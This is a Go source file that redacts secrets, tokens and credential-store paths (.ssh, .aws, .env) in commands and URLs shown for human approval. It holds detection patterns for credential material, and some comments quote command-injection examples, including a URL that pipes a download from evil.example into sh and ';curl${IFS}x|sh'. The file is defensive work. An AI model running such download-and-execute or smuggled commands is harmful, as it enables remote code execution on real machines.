package domain

import (
	"bytes"
	"encoding/json"
	"regexp"
	"slices"
	"strings"
	"sync"
	"unicode/utf8"
)

// sensitiveSegments are path elements that mark a credential store (keys,
// credentials, tokens). The element itself and everything below it never
// appear in clear in events, audit rows or approval requests: the name of
// the store says what it holds.
var sensitiveSegments = []string{
	".ssh", ".gnupg", ".aws", ".azure", ".kube", ".docker", ".netrc", ".npmrc", ".pypirc",
	".git-credentials", ".password-store", "gcloud", ".env",
}

// sensitiveSegment reports whether seg is one of sensitiveSegments or a
// ".env." file. Every one but "gcloud" starts with a dot
// (TestSensitiveSegmentsStartWithADot), which settles most elements at
// their first byte.
func sensitiveSegment(seg string) bool {
	if seg == "" || seg[0] != '.' {
		return seg == "gcloud"
	}
	return slices.Contains(sensitiveSegments, seg) || strings.HasPrefix(seg, ".env.")
}

// RedactPath keeps a path up to (not including) its first sensitive element
// and replaces that element and the rest with a short hash, so a person sees
// where, but not what. Other paths are returned unchanged.
//
// What it hides never holds a ".." element: a reader cannot tell where
// ".." after hidden elements leads (how many there were, whether one is a
// symbolic link), and `~/.ssh/../.local/bin/git` shown as `~/[redacted:…]`
// hid that it writes ~/.local/bin/git. So a path with ".." elements is
// shown as written up to and including its last one, and only what follows
// may be hidden: all of it when the part in view, cleaned lexically, is
// inside a credential store (`~/.ssh/x/../[redacted:…]`), else from its
// first sensitive element.
func RedactPath(p string) string {
	last := lastDotDot(p)
	if last < 0 {
		return redactFrom(p, 0)
	}
	if last == len(p) || !insideStore(p[:last]) {
		return redactFrom(p, last)
	}
	if strings.Trim(p[last:], "/") == "" {
		return p
	}
	return p[:last] + "/[redacted:" + hashHex([]byte(p))[:12] + "]"
}

// redactFrom is RedactPath for a p whose elements from i on hold no "..":
// from the first sensitive element at or after i, the rest is hidden.
func redactFrom(p string, i int) string {
	if k := firstSensitive(p, i); k >= 0 {
		return p[:k] + "[redacted:" + hashHex([]byte(p))[:12] + "]"
	}
	return p
}

// firstSensitive returns where p's first sensitive element at or after i
// begins, or -1.
func firstSensitive(p string, i int) int {
	for i < len(p) {
		j := strings.IndexByte(p[i:], '/')
		end := len(p)
		if j >= 0 {
			end = i + j
		}
		if end > i && sensitiveSegment(p[i:end]) {
			return i
		}
		if j < 0 {
			break
		}
		i = end + 1
	}
	return -1
}

// Redaction marker for a secret value inside a command or URL.
const redacted = "[redacted]"

// HidesText reports whether s, as recorded, holds a part a redaction hid
// (a secret's "[redacted]", a path's "[redacted:…]"): what the part was
// cannot be judged from it.
func HidesText(s string) bool { return strings.Contains(s, "[redacted") }

// secretName matches option, variable and header names that carry secrets.
const secretName = `[A-Za-z0-9_-]*(?:[Pp][Aa][Ss][Ss][Ww](?:[Oo][Rr])?[Dd]|[Tt][Oo][Kk][Ee][Nn]|[Ss][Ee][Cc][Rr][Ee][Tt]|` +
	`[Aa][Pp][Ii][-_]?[Kk][Ee][Yy]|[Aa][Cc][Cc][Ee][Ss][Ss][-_]?[Kk][Ee][Yy]|[Cc][Rr][Ee][Dd][Ee][Nn][Tt][Ii][Aa][Ll])[A-Za-z0-9_-]*`

// secretPatterns are the redaction patterns. They are compiled on first
// use, not at package initialisation: every program that links this package
// pays for its initialisation at start, and the sandbox helper starts once
// per command (compiling them took about 0.3 ms of it, measured).
type secretPatterns struct {
	// header: "Authorization: Bearer x", "Cookie: a=b", "X-Api-Token: x".
	header *regexp.Regexp
	// bearer: a bearer credential anywhere.
	bearer *regexp.Regexp
	// assign: --password=x, --api-key=x, TOKEN=x, token=x (queries too),
	// the value quoted or not (TOKEN="x", --password='x').
	assign *regexp.Regexp
	// option: --password x, --token 'x' (the value as the next word).
	option *regexp.Regexp
	// user: curl's -u/--user name:password.
	user *regexp.Regexp
	// token: well-known token shapes.
	token *regexp.Regexp
	// secretOption: options whose next argument is a secret.
	secretOption *regexp.Regexp
	// secretKey: keys of a tool's arguments whose value is a secret.
	secretKey *regexp.Regexp
	// jwk: the private members of a JSON Web Key ("d", the primes and
	// their exponents, a symmetric key's "k"), in JSON or with its
	// quotes escaped in a shell string.
	jwk *regexp.Regexp
	// member: a secret-named member of JSON, TOML or YAML written in a
	// command or a message ("api_key": "x", as curl -d sends one; its
	// quotes may be escaped in a shell string; token = "x").
	member *regexp.Regexp
	// quotedAssign: "NAME"="value", a shell's assignment once its quotes
	// are removed (export, env, declare take it as one).
	quotedAssign *regexp.Regexp
	// memberBare: the same with its name unquoted, in YAML (token: "x",
	// token: 'x'; token: x is the header pattern's) or TOML (token = "x");
	// NAME="x" is the assign pattern's.
	memberBare *regexp.Regexp
}

var secretRes = sync.OnceValue(func() *secretPatterns {
	return &secretPatterns{
		header: regexp.MustCompile(`(?i)\b((?:proxy-)?authorization|(?:set-)?cookie|` + secretName + `)(\s*:\s*)[^'"\n]+`),
		bearer: regexp.MustCompile(`(?i)\b(bearer)(\\?\s+["']?)[A-Za-z0-9._~+/=-]{6,}`),
		assign: regexp.MustCompile(`(?:^|[\s'"?&;,(])(-{0,2}` + secretName + `)=('[^']*'|"[^"]*"|[^\s'"&;,)]+)`),
		option: regexp.MustCompile(`(?:^|\s)(-{1,2}` + secretName + `)(\s+)('[^']*'|"[^"]*"|[^\s'"-][^\s'"]*)`),
		user:   regexp.MustCompile(`(?:^|\s)(-u|--user)(\s+'?)([^:\s']*):([^\s']+)`),
		token: regexp.MustCompile(`\b(?:gh[pousr]_[A-Za-z0-9]{16,}|github_pat_[A-Za-z0-9_]{16,}|sk-[A-Za-z0-9_-]{16,}|` +
			`xox[abposr]-[A-Za-z0-9-]{8,}|(?:AKIA|ASIA)[0-9A-Z]{16}|eyJ[A-Za-z0-9_-]{4,}\.eyJ[A-Za-z0-9_-]{4,}\.[A-Za-z0-9_-]*|` +
			`glpat-[A-Za-z0-9_-]{16,}|npm_[A-Za-z0-9]{30,}|AIza[0-9A-Za-z_-]{30,}|[sr]k_(?:live|test)_[A-Za-z0-9]{16,}|hf_[A-Za-z0-9]{30,}|` +
			`SG\.[A-Za-z0-9_-]{16,}\.[A-Za-z0-9_-]{16,}|pypi-[A-Za-z0-9_-]{50,}|do[opr]_v1_[a-f0-9]{64}|shp(?:at|ca|pa|ss)_[a-fA-F0-9]{32})|AGE-SECRET-KEY-1[0-9A-Z]{58}`),
		secretOption: regexp.MustCompile(`^-{1,2}` + secretName + `$`),
		secretKey:    regexp.MustCompile(`^` + secretName + `$`),
		member:       regexp.MustCompile(`(?:'\\''|\\*["'])(` + secretName + `)(?:'\\''|\\*["'])(?:[ \t]*:|[ \t]+=|[ \t]*=>)[ \t]*` + memberValue),
		quotedAssign: regexp.MustCompile(`(?:'\\''|\\*["'])(` + secretName + `)(?:'\\''|\\*["'])=` + memberValue),
		memberBare:   regexp.MustCompile(`(?:^|[\s{,'(;]|\\[nt])(` + secretName + `)(?:[ \t]*:[ \t]+|[ \t]+=[ \t]*|[ \t]*=>[ \t]*)` + memberValue),
		jwk:          regexp.MustCompile(`\\*"(?:d|p|q|dp|dq|qi|k|r|t)\\*"[ \t]*:[ \t]*\\*"([A-Za-z0-9_-]{16,})\\*"`),
	}
})

// RedactSecrets replaces secrets inside a command line, an argument or a
// message: header values of Authorization, Cookie and *-Token style headers,
// bearer credentials, URL userinfo and query values, --password=… style
// options (and their next argument), NAME=value assignments of secret
// names, curl's -u user:password, and well-known token shapes (GitHub, OpenAI,
// Slack, AWS access keys, JWTs, Stripe, Hugging Face, SendGrid, PyPI,
// DigitalOcean, Shopify, age…), and the private members of a JSON Web Key.
// What is left says what the command does.
//
// A private key block (PEM, OpenSSH, PGP) is hidden across its lines
// (redactKeyBlocks), and so is its file encoded in base64
// (redactEncodedKeys); any other secret is recognised within one line: the
// patterns run on each line of s on its own, so a name and its value on
// two lines (`--password` at the end of one, the value on the next) are
// not. On a text of many lines (a
// here-document of a file's content) that is 15-20 times faster than one
// search over the whole text, where the regexps' cost per byte grows with
// the text (they cannot use their backtracker past about a KiB), and a
// line without a pattern's needle skips its regexps (gatesOf). Hiding is
// unchanged: every match is one at the same place in the whole text, with
// the same rules for what may be hidden (replaceClipped).
func RedactSecrets(s string) string { return redactSecrets(s, textMode{}) }

// textMode says what kind of text a redaction reads: a shell command's
// (shell: the program a command runs is never hidden, programWord), one
// whose key blocks are shown (keysShown: a shell command's, any line of
// which may be one the shell runs; its arguments too).
type textMode struct {
	shell, keysShown bool
}

// redactSecrets is RedactSecrets for a text of mode.
func redactSecrets(s string, mode textMode) string {
	if !mode.keysShown {
		s = redactEncodedKeys(redactKeyBlocks(s))
	}
	// Which variables the text exposes is read once, and only when a
	// secret-named value is about to be hidden: a prompt of megabytes is
	// scanned by the patterns, not by exposedVars (CI under the race
	// detector timed out turn starts with large prompts).
	var exposedMap map[string]bool
	read := false
	exposed := func() map[string]bool {
		if !read {
			read = true
			if strings.IndexByte(s, '=') >= 0 { // no assignment to show without one
				exposedMap = exposedVars(s)
			}
		}
		return exposedMap
	}
	nl := strings.IndexByte(s, '\n')
	if nl < 0 {
		return redactLine(s, exposed, mode.shell)
	}
	var b strings.Builder
	copied := 0 // s[:copied] is in b
	for start, end := 0, nl; start <= len(s); start, end = end+1, nextLineEnd(s, end+1) {
		line := s[start:end]
		if r := redactLine(line, exposed, mode.shell); r != line {
			b.WriteString(s[copied:start])
			b.WriteString(r)
			copied = end
		}
	}
	if copied == 0 {
		return s
	}
	b.WriteString(s[copied:])
	return b.String()
}

// nextLineEnd returns the index of the first '\n' of s at or after from, or
// len(s).
func nextLineEnd(s string, from int) int {
	if from >= len(s) {
		return len(s)
	}
	if i := strings.IndexByte(s[from:], '\n'); i >= 0 {
		return from + i
	}
	return len(s)
}

// redactLine is RedactSecrets on one line.
// exposed names the variables the whole text expands where their value
// decides what it does (exposedVars): their assignments are shown.
func redactLine(s string, exposed func() map[string]bool, shell bool) string {
	g := gatesOf(s)
	if g == (secretGates{}) { // most paths and summaries
		return s
	}
	return redactGated(s, g, exposed, shell)
}

// secretGates says which redaction patterns can match a text: each is a
// necessary condition of its pattern, checked with substring searches on
// the lower-cased text, so that the regexps (most of a decision's CPU when
// every one ran on every path and scope: a JSON scope holds ':') run only
// where they may find something. A replacement only cuts text out and puts
// "[redacted]" in its place, which holds no needle, so gates computed on
// the original text hold for every later step.
type secretGates struct {
	urls, header, bearer, user, assign, option, token, jwk, member, memberBare bool
}

// secretWords are the lower-case cores of secretName: no text without one
// of them holds a secret name.
var secretWords = []string{"passw", "token", "secret", "key", "credential"}

// tokenNeedles are the lower-case prefixes of the token shapes.
var tokenNeedles = []string{"gh", "github_pat_", "sk-", "xox", "akia", "asia", "eyj", "aiza", "npm_", "glpat-",
	"k_live_", "k_test_", "hf_", "sg.", "pypi-", "_v1_", "shp", "age-secret-key-1"}

// gatesOf computes the gates of s on its lower case (strings.ToLower's),
// made in a stack buffer when s is ASCII and short.
func gatesOf(s string) secretGates {
	var buf [256]byte
	l := lowerCase(buf[:0], s)
	has := func(n string) bool { return bytes.Contains(l, []byte(n)) }
	hasAny := func(needles []string) bool { return slices.ContainsFunc(needles, has) }
	word := hasAny(secretWords)
	var member, memberBare bool
	if word {
		member, memberBare = memberGates(bytes.Clone(l))
	}
	return secretGates{
		urls:       has("://"),
		header:     bytes.IndexByte(l, ':') >= 0 && (word || has("authorization") || has("cookie")),
		bearer:     has("bearer"),
		user:       has("-u"),
		assign:     word && bytes.IndexByte(l, '=') >= 0,
		option:     word,
		token:      hasAny(tokenNeedles),
		jwk:        jwkMember(s),
		member:     member,
		memberBare: memberBare,
	}
}

// memberGates runs the member patterns' separators on l, a copy: a regexp
// keeps what it matches on the heap, and gatesOf's stack buffer, passed
// to it, was moved there on every call, not only when a secret word is in
// the text.
func memberGates(l []byte) (member, bare bool) {
	return memberSeps().Match(l), memberBareSeps().Match(l)
}

// jwkMember reports whether s holds a quoted name of a JSON Web Key's
// private member ("d", "p", "q", "dp", "dq", "qi", "k", and "oth"'s "r"
// and "t"; its quotes may be escaped, twice or more in a JSON string
// within another): the jwk pattern's necessary condition, found in one pass.
func jwkMember(s string) bool {
	for i := strings.IndexByte(s, '"'); i >= 0 && i+2 < len(s); {
		for _, n := range []int{1, 2} {
			if e := i + 1 + n; e <= len(s) && jwkPrivate(s[i+1:e]) && strings.HasPrefix(strings.TrimLeft(s[e:], "\\"), `"`) {
				return true
			}
		}
		k := strings.IndexByte(s[i+1:], '"')
		if k < 0 {
			break
		}
		i += 1 + k
	}
	return false
}

// jwkPrivate reports whether n names a JSON Web Key's private member.
func jwkPrivate(n string) bool {
	switch n {
	case "d", "p", "q", "dp", "dq", "qi", "k", "r", "t":
		return true
	}
	return false
}

// lowerCase is strings.ToLower(s) as bytes, appended to buf when s is ASCII
// (where ToLower maps A-Z and nothing else).
func lowerCase(buf []byte, s string) []byte {
	for i := 0; i < len(s); i++ {
		if s[i] >= utf8.RuneSelf {
			return []byte(strings.ToLower(s))
		}
	}
	b := append(buf, s...)
	for i, c := range b {
		if 'A' <= c && c <= 'Z' {
			b[i] = c + ('a' - 'A')
		}
	}
	return b
}

// memberSeps and memberBareSeps find the separators of the member
// patterns: a quote, blanks and ':' or '=' (member, quotedAssign), and ':'
// with a blank, a blank and '=', or "=>", then blanks and a quote
// (memberBare): their gates, a necessary condition found in one linear
// scan (the three patterns, run on every text with a secret word and a
// quote, doubled the cost of a curl command's redaction).
var (
	memberSeps     = sync.OnceValue(func() *regexp.Regexp { return regexp.MustCompile(`["'][ \t]*[:=]`) })
	memberBareSeps = sync.OnceValue(func() *regexp.Regexp {
		return regexp.MustCompile(`(?::[ \t]+|[ \t]=[ \t]*|=>[ \t]*)[\\"']`)
	})
)

// allGates runs every pattern (the reference the gates are tested against).
var allGates = secretGates{true, true, true, true, true, true, true, true, true, true}

func redactGated(s string, g secretGates, exposed func() map[string]bool, shell bool) string {
	if g.urls {
		s = redactURLs(s)
	}
	re := secretRes()
	// The value of a header runs from the end of its separator (submatch
	// 2) to the end of the match; it may start with a scheme word and one
	// space ("Basic x"). Bearer credentials go first, so that a header's
	// "Bearer x" is hidden whole.
	rest := func(m []int) (int, int) { return m[5], m[1] }
	if g.bearer {
		s = replaceClipped(re.bearer, s, rest, clip{ownWord: true, shell: shell})
	}
	if g.header {
		s = replaceClipped(re.header, s, rest, clip{scheme: true, ownWord: true, name: 1, shell: shell, spaced: true})
	}
	if g.user {
		s = replaceClipped(re.user, s, submatch(4), clip{})
	}
	if g.assign {
		s = replaceClipped(re.assign, s, submatch(2), clip{name: 1, exposed: exposed, shell: shell})
	}
	if g.option {
		s = replaceClipped(re.option, s, submatch(3), clip{ownWord: true, name: 1, shell: shell})
	}
	if g.token {
		s = replaceClipped(re.token, s, submatch(0), clip{shape: true})
	}
	if g.jwk {
		s = replaceClipped(re.jwk, s, submatch(1), clip{})
	}
	if g.member {
		// A member is data, not a shell variable: no exposed check (a
		// command that reads the environment by name showed every
		// member's value: the ninety-ninth review).
		s = replaceClipped(re.member, s, firstSubmatch(2, 3, 4), clip{ownWord: true, name: 1, shell: shell, member: true})
		// export "NAME"="value" (env, declare): an assignment once the
		// shell removed the quotes, judged as NAME=value is.
		s = replaceClipped(re.quotedAssign, s, firstSubmatch(2, 3, 4), clip{ownWord: true, name: 1, exposed: exposed, shell: shell})
	}
	if g.memberBare {
		s = replaceClipped(re.memberBare, s, firstSubmatch(2, 3, 4), clip{ownWord: true, name: 1, shell: shell, member: true})
	}
	return s
}

// firstSubmatch returns the span of the first of the submatches ns that
// matched.
func firstSubmatch(ns ...int) func(m []int) (int, int) {
	return func(m []int) (int, int) {
		for _, n := range ns {
			if m[2*n] >= 0 {
				return m[2*n], m[2*n+1]
			}
		}
		return -1, -1
	}
}

// memberValue is a member's quoted value: in double quotes (escaped or
// not), in single quotes, or in single quotes as a shell's single-quoted
// word writes them ('\”: ShellJoin's, an exec's command as shown: the
// ninety-ninth review).
const memberValue = `(?:\\*"([^"\\\n]+)\\*"|'\\''([^'\\\n]+)'\\''|'([^'\n]+)')`

// memberInShell reports whether a member's match at s[start:], its name
// ending at ne and its value at a, is shell syntax in a shell command: a
// '>' between them outside quotes makes the value a redirection's target
// (printf … token=>'Makefile'), and a quoted name glued to ':' whose
// quote starts a word outside quotes is a refspec's side (git push -f
// origin "token-expiry":"main"), not JSON (the hundred-and-first review).
func memberInShell(s string, start, ne, a int, shell bool, qm *quoteMemo) bool {
	if i := strings.IndexByte(s[ne:a], '>'); shell && i >= 0 && nestedUnquoted(s, ne+i, 2, nil, qm) {
		return true
	}
	if sep := s[ne:a]; (s[start] == '"' || s[start] == '\'') && strings.Contains(sep, ":") && !strings.ContainsAny(sep, " \t") {
		return nestedUnquoted(s, start, 2, func(s string, k int) bool {
			return k == 0 || strings.IndexByte(" \t\n;&|", s[k-1]) >= 0
		}, qm)
	}
	return false
}

// nestedUnquoted reports whether s[k] lies outside quotes, and there
// satisfies at (when given), as the shell that reads it sees it: in a
// shell's -c script (sh -c '…'), as that shell does, up to depth levels.
func nestedUnquoted(s string, k, depth int, at func(s string, k int) bool, qm *quoteMemo) bool {
	q, open := quoteOpenMemo(s, k, qm)
	if q == 0 {
		return at == nil || at(s, k)
	}
	if depth == 0 || !shellScript(s, open) {
		return false
	}
	inner, ik := quotedText(s, open, q, k)
	return nestedUnquoted(inner, ik, depth-1, at, nil)
}

// shellScript reports whether the string that opens at s[open] is a
// shell's -c script (sh -c '…', bash -lc "…"), which that shell reads
// as a command; a ruby -e or python -c script is not.
func shellScript(s string, open int) bool {
	// Only the words just before the quote can be the shell and its
	// options (nestedShell: a program, options, the last one ending in
	// c): they are read back word by word, and the pattern run on them
	// alone. Run on the whole text before the quote, for every quoted
	// member, it made a prompt repeating "token":"x" cost 42 s at 64 KiB
	// (the hundred-and-eighty-fifth review).
	t := strings.TrimRight(s[:open], " \t")
	i, last := len(t), true
	for n := 0; n < maxShellScriptWords; n++ {
		// Within maxShellScriptScan of the quote: a text without blanks
		// (compact JSON) was read back whole for each member (the
		// hundred-and-eighty-seventh review).
		lo := max(0, len(t)-maxShellScriptScan)
		if i < lo {
			return false
		}
		j := strings.LastIndexAny(t[lo:i], " \t\n\r\v\f")
		if j >= 0 {
			j += lo
		} else if lo > 0 {
			return false // the words run further back than a shell's are read
		}
		w := t[j+1 : i]
		switch {
		case w == "":
			return false
		case last && (w[len(w)-1] != 'c' || w[0] != '-'):
			return false // no -c, -lc before the quote
		case w[0] != '-':
			// The program's word: the pattern from the blank before it.
			lo := max(j, 0)
			if len(t)-lo > maxShellScriptScan {
				return false
			}
			locs := nestedShell().FindAllStringIndex(t[lo:], -1)
			return len(locs) > 0 && locs[len(locs)-1][1] == len(t)-lo
		case j < 0:
			return false // options only
		}
		last = false
		i = len(strings.TrimRight(t[:j], " \t\n\r\v\f"))
	}
	return false
}

// maxShellScriptWords and maxShellScriptScan bound the words, and the
// bytes, before a quote that shellScript reads as a shell and its options.
const (
	maxShellScriptWords = 64
	maxShellScriptScan  = 4 << 10
)

// yamlLine reports whether the name s[n:ne] starts its line (after
// blanks; quoted or not) and its value, at a, is a word of its own after it: a line of
// YAML (token: x, as a here-document writes a config file), whose name
// would be the program a shell runs, where the value is an argument, not
// the program (X-Token:bin/x, PATH=. X-Token: x). The value is hidden
// there unless ownWord keeps it in view as a word of its own.
func yamlLine(s string, n, ne, a int) bool {
	if !strings.ContainsAny(s[ne:a], " \t") {
		return false
	}
	i := n
	for i > 0 && (s[i-1] == '"' || s[i-1] == '\'' || s[i-1] == '\\') && n-i < 4 {
		i-- // a quoted name: a JSON member on its own line
	}
	for i > 0 && (s[i-1] == ' ' || s[i-1] == '\t') {
		i--
	}
	return i == 0 || s[i-1] == '\n'
}

// submatch returns the span of submatch n of a match.
func submatch(n int) func(m []int) (int, int) {
	return func(m []int) (int, int) { return m[2*n], m[2*n+1] }
}

// replaceClipped replaces, in every match of re, the span of the secret
// that span picks with the marker; a span wrapped in quotes keeps them.
// Only a token is hidden, never what a reader needs to see what the text
// does: the span is cut short at the first byte that is not a token's
// (secretByte), and the rest stays in view. With scheme, a first word and
// one space may be hidden too ("Basic x"). Quoting is not trusted to tell
// syntax from data: a script handed to a nested shell is quoted, and a
// secret value that ran into `;touch${IFS}x` there hid the command from
// the person asked to approve it. Nor is a token hidden when it has a ".."
// element (hasDotDot), when it may be a word of its own and reads as a
// path (readsAsPath), or when its name says it is a file or a program
// (refName): each of those says where the command writes or what it runs.
func replaceClipped(re *regexp.Regexp, s string, span func(m []int) (int, int), o clip) string {
	scheme := o.scheme
	idx := re.FindAllStringSubmatchIndex(s, -1)
	if idx == nil {
		return s
	}
	var b strings.Builder
	last := 0
	cs := csMemo{} // s is the same text for every match
	qm := &quoteMemo{}
	for _, m := range idx {
		a, e := span(m)
		if a < 0 || a < last {
			continue
		}
		if e-a >= 2 && (s[a] == '\'' || s[a] == '"') && s[e-1] == s[a] {
			a, e = a+1, e-1 // keep the quotes
		}
		if strings.HasPrefix(s[a:e], redacted) {
			continue
		}
		if scheme && a < e && s[a] == '-' {
			continue // an option, not a header's value
		}
		c := tokenEnd(s, a, e)
		if scheme && c < e-1 && s[c] == ' ' && isWord(s[a:c]) && secretByte(s[c+1]) {
			c = tokenEnd(s, c+1, e)
		}
		if c == a {
			continue // nothing that can be hidden: left in view
		}
		if o.spaced && !strings.ContainsAny(s[m[2*o.name+1]:a], " \t") && !(headerName(s[m[2*o.name]:m[2*o.name+1]]) && startsWord(s, m[2*o.name])) {
			continue // a refspec's or a tag's ':', not a header's
		}
		if o.member && memberInShell(s, m[0], m[2*o.name+1], a, o.shell, qm) {
			continue // a redirection's target, a refspec's side
		}
		// Whether the word after "bearer" (or a header's name) is in a
		// credential's place is not judged from the shell's quoting: read
		// a line at a time it was wrong both ways (a quote closed on an
		// earlier line hid rm -rf's directory; a token in a here-document,
		// an export or an MCP argument was shown: the ninety-fourth
		// review). The value is hidden unless a word of it decides what
		// the call does: an option, a host, the program run.
		if o.ownWord && ownWordInView(s, a, c, o.shell, cs, qm) {
			continue // an option, a host, a program: left in view
		}
		if o.name > 0 && m[2*o.name] >= 0 && refName(s[m[2*o.name]:m[2*o.name+1]]) {
			w := max(urlWordEnd(s, a), c)
			if k := urlOriginEnd(s[m[2*o.name]:m[2*o.name+1]], s[a:w]); k > 0 {
				// A secret's URL: the host it goes to in view, its path,
				// query and fragment hidden to the end of the word (a bot
				// token or a webhook's secret is a path, an OAuth token a
				// fragment: the thirty-sixth and thirty-seventh reviews).
				b.WriteString(s[last : a+k])
				b.WriteString(redacted)
				last = w
			}
			continue // where it writes, what it runs: left in view
		}
		if o.name > 0 && m[2*o.name] >= 0 {
			if o.exposed != nil && exposedValue(o.exposed(), s[m[2*o.name]:m[2*o.name+1]], s[a:c]) {
				continue // a variable expanded where it decides what runs: left in view
			}
			if o.shell && !o.member && !yamlLine(s, m[2*o.name], m[2*o.name+1], a) && (programWordMemo(s, m[2*o.name], cs) || pathWordNoAssignment(s, m[2*o.name], s[a:c])) {
				continue // the word is the program the shell runs: left in view
			}
		}
		if hasDotDot(s[a:c]) || o.ownWord && readsAsPath(s[a:c]) || o.shape && (runsOn(s, m[1]) || hostAt(s, a, m[1]) || jwtHost(s, a, m[1])) {
			continue // where it writes, what it runs: left in view
		}
		b.WriteString(s[last:a])
		b.WriteString(redacted)
		last = c
	}
	if last == 0 {
		return s
	}
	b.WriteString(s[last:])
	return b.String()
}

// tokenEnd returns the end of the run of secretBytes that starts at a,
// no further than e.
func tokenEnd(s string, a, e int) int {
	for a < e && secretByte(s[a]) {
		a++
	}
	return a
}

// isWord reports whether w is a non-empty run of letters (an
// authorization scheme: Basic, Bearer, Digest, Token, …).
func isWord(w string) bool {
	for i := 0; i < len(w); i++ {
		if c := w[i] | 0x20; c < 'a' || c > 'z' {
			return false
		}
	}
	return w != ""
}

// secretByte reports whether c may be part of a secret token: a letter, a
// digit or one of ._~%+/=:,@-.
func secretByte(c byte) bool {
	return c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || strings.IndexByte("._~%+/=:,@-", c) >= 0
}

// redactURLs applies redactURL to every absolute URL in s (a scheme, "://",
// up to white space or a quote), scanning by hand: a leading-class regexp
// is quadratic here.
func redactURLs(s string) string {
	var b strings.Builder
	last := 0
	for from := 0; ; {
		k := strings.Index(s[from:], "://")
		if k < 0 {
			break
		}
		k += from
		start := k
		for start > last && isSchemeByte(s[start-1]) {
			start--
		}
		end := k + 3
		for end < len(s) && !strings.ContainsRune(" \t\n'\"<>", rune(s[end])) {
			end++
		}
		from = end
		if start == k {
			continue // no scheme
		}
		b.WriteString(s[last:start])
		u := s[start:end]
		b.WriteString(redactURL(u))
		last = end
	}
	if last == 0 {
		return s
	}
	b.WriteString(s[last:])
	return b.String()
}

func isSchemeByte(c byte) bool {
	return c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '+' || c == '.' || c == '-'
}

// redactURL keeps a URL's scheme, host, port and path; its userinfo and the
// value of every query parameter are replaced, each only as far as it is a
// token (tokenEnd): the rest stays in view.
func redactURL(u string) string {
	// cut replaces the token at the start of u[a:e] with the marker.
	cut := func(a, e int) string {
		c := tokenEnd(u, a, e)
		if c == a || hasDotDot(u[a:c]) {
			return u[a:e]
		}
		return redacted + u[c:e]
	}
	i := strings.Index(u, "://") + 3
	authEnd := strings.IndexAny(u[i:], "/?#")
	if authEnd < 0 {
		authEnd = len(u) - i
	}
	authEnd += i
	var b strings.Builder
	b.WriteString(u[:i])
	pos := i
	// The userinfo ends at the first '@' (parsers differ on a second one:
	// what follows the first stays in view for either reading) and is
	// hidden only when it is one: in a command line, text with the shell's
	// syntax in it is no userinfo (`https://evil.example|sh&&:@good.example/`
	// runs `curl https://evil.example | sh`, and hiding "evil.example" as a
	// credential showed a download from good.example).
	if at := strings.IndexByte(u[i:authEnd], '@'); at >= 0 && isUserinfo(u[i:i+at]) {
		b.WriteString(cut(i, i+at))
		pos = i + at
	}
	q := strings.IndexByte(u[pos:], '?')
	if q < 0 {
		b.WriteString(u[pos:])
		return b.String()
	}
	q += pos
	b.WriteString(u[pos : q+1])
	end := len(u)
	if h := strings.IndexByte(u[q+1:], '#'); h >= 0 {
		end = q + 1 + h
	}
	for p := q + 1; p <= end; {
		amp := strings.IndexByte(u[p:end], '&')
		pe := end
		if amp >= 0 {
			pe = p + amp
		}
		if eq := strings.IndexByte(u[p:pe], '='); eq >= 0 {
			b.WriteString(u[p : p+eq+1])
			b.WriteString(cut(p+eq+1, pe))
		} else {
			// A part with no value is not hidden: after an unquoted &
			// it is the next command.
			b.WriteString(u[p:pe])
		}
		if pe < end {
			b.WriteByte('&')
		}
		p = pe + 1
	}
	b.WriteString(u[end:])
	return b.String()
}

// RedactArgv redacts each argument (RedactText), and the argument after an
// option whose name marks a secret (--password x, --token x) or a bearer
// token (--oauth2-bearer x).
func RedactArgv(argv []string) []string {
	var m redactMemo
	return redactArgv(argv, &m)
}

func redactArgv(argv []string, m *redactMemo) []string {
	out := make([]string, len(argv))
	for i, a := range argv {
		if i > 0 && (bearerOption(argv[i-1]) || secretRes().secretOption.MatchString(argv[i-1])) {
			out[i] = redacted
			continue
		}
		if m.mode.shell && !(i == len(argv)-1 && i >= 2 && argv[i-1] == "-c") {
			// An argument is no shell command (but a shell's -c
			// script, the last): its first word is no program.
			arg := redactMemo{mode: textMode{keysShown: m.mode.keysShown}}
			out[i] = arg.text(a)
			continue
		}
		out[i] = m.text(a)
	}
	if !slices.Equal(out, argv) && m.computed() {
		return slices.Clone(argv)
	}
	return out
}

// RedactText redacts secrets (RedactSecrets) and every path-like word of s
// (RedactPath) in commands, summaries and messages.
func RedactText(s string) string { return redactText(s, textMode{}) }

// redactText is RedactText for a text of mode.
func redactText(s string, mode textMode) string {
	s = redactSecrets(s, mode)
	if !strings.Contains(s, "/") {
		return s
	}
	// Words are cut at white space, quotes, '=', ',', ':', brackets and the
	// shell's syntax (a path redacted from its sensitive element to the
	// end of its word must not take `;curl${IFS}x|sh` with it); the text is
	// copied only from the first word that changes.
	var b strings.Builder
	changed, copied, start := false, 0, 0 // s[:copied] is in b
	flush := func(end int) {
		word := s[start:end]
		if r := RedactPath(word); r != word {
			b.WriteString(s[copied:start])
			b.WriteString(r)
			changed, copied = true, end
		}
	}
	for i := 0; i < len(s); i++ {
		if wordBreak(s[i]) {
			flush(i)
			start = i + 1
		}
	}
	flush(len(s))
	if !changed {
		return s
	}
	b.WriteString(s[copied:])
	return b.String()
}

// Redacted returns the scope with path- and command-bearing values redacted.
// Environment values and stdin enter a scope only as digests.
func (s Scope) Redacted() Scope {
	var m redactMemo
	return s.redacted(&m)
}

func (s Scope) redacted(m *redactMemo) Scope {
	out := make(Scope, len(s))
	for i, e := range s {
		switch e.Key {
		case "argv":
			var argv []string
			if err := json.Unmarshal([]byte(e.Value), &argv); err == nil {
				e.Value = jsonList(redactArgv(argv, m))
			} else {
				e.Value = m.text(e.Value)
			}
		case "path", "paths", "cwd", "command", "executable", "url_path":
			e.Value = m.text(e.Value)
		}
		out[i] = e
	}
	return out
}

// RedactedHashKey is the scope entry that binds what redaction hid in a
// scope's other values: the digest key's Sum of the whole scope's
// canonical JSON (Action.Shown).
const RedactedHashKey = "redacted_hash"

// shown is s as it is recorded and shown (Action.Shown): redacted, and
// when that changed a value, with RedactedHashKey binding s under key.
func (s Scope) shown(key DigestKey, m *redactMemo) Scope {
	red := s.redacted(m)
	if slices.Equal(red, s) {
		return red
	}
	return NewScope(append(red, ScopeEntry{RedactedHashKey, key.Sum(s.CanonicalJSON())})...)
}

// shownScope is a.Shown, or a.Scope redacted for an Action Classify did not
// make.
func (a *Action) shownScope(m *redactMemo) Scope {
	if a.Shown != nil {
		return a.Shown
	}
